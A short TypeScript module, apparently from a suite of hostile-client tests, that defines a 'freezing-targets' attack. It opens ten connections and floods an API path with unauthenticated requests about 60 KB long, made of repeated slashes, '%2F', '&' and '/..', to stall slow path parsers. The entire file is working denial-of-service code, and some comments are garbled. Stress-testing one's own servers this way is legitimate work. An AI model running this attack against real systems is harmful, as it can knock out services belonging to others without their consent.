import type { Attack } from '../attack.ts';
import { get, openMany, sleep } from '../hostile.ts';

const CONNECTIONS = 10;
/** As long as one field may be for an HTTP/2 server that is made of nghttp2, as the one of these attacks (characters). */
const LENGTH = 60_000;
/** What a careless expression walks to its end from each of its characters. */
const UNITS = ['/', '%2F', '&', '%26a=', '.', '/..'];

export const freezingTargets: Attack = {
  name: 'freezing-targets',
  what: 'targets of 60 KB of slashes, `%2F` and the like, without credentials',
  run: async (target) => {
    const sockets = await openMany(target, CONNECTIONS);
    for (const unit of UNITS) {
      const path = `/api/v1/nodes/${unit.repeat(LENGTH / unit.length)}x`;
      for (const socket of sockets) socket.write(get(path, []));
      await sleep(1000);
    }
    await sleep(4000);
  },
};
